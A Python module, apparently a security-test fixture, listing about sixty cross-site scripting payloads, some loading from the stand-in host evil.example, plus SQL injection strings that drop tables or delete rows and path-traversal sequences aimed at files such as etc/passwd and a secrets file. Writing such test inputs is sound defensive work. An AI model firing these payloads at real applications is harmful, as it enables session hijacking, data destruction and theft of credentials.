"""What people put into a text field to make it something else: sixty ways into a page, and a few into a database or a file."""

RUN = "window.pwned=1"
STORED = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script/src=data:,{RUN}></script>",
    f"<script src=//evil.example/x.js></script>{RUN}",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</button></form><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f'"><svg onload={RUN}>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<link rel=stylesheet href=//evil.example/{RUN}.css>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<base href=//evil.example/{RUN}/>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<style>@import '//evil.example/{RUN}';</style>",
    f"<style>*{{background:url(//evil.example/{RUN})}}</style>",
    f'" style="background:url(//evil.example/{RUN})',
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"` onfocus={RUN} `",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"javascript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<hx-partial hx-target=body hx-swap=innerHTML><script>{RUN}</script></hx-partial>",
    f"<div hx-get=/ hx-trigger=load hx-on::after-request='{RUN}'>x</div>",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE entry; --",
    '" OR ""="',
    "1 UNION SELECT code_hash FROM seat --",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "%' AND 1=1 --",
    "\\'); DELETE FROM issue; --",
    "0x27 OR randomblob(1000000000)",
]
UP = ["..", "%2e%2e", "%252e%252e", "..%2f..", "..%5c..", "..\\..", "....//..", "%c0%ae%c0%ae", "..;", "%2e%2e%00"]
FILES = ["seats.secret", "stoliki.db", "pyproject.toml", "app/main.py", "etc/passwd"]
LONGEST = 190


def chunks() -> list[str]:
    """All of them, packed into as few titles as they fit in."""
    packed = [""]
    for one in STORED:
        if len(packed[-1]) + len(one) >= LONGEST:
            packed.append("")
        packed[-1] = f"{packed[-1]} {one}".strip()
    return packed
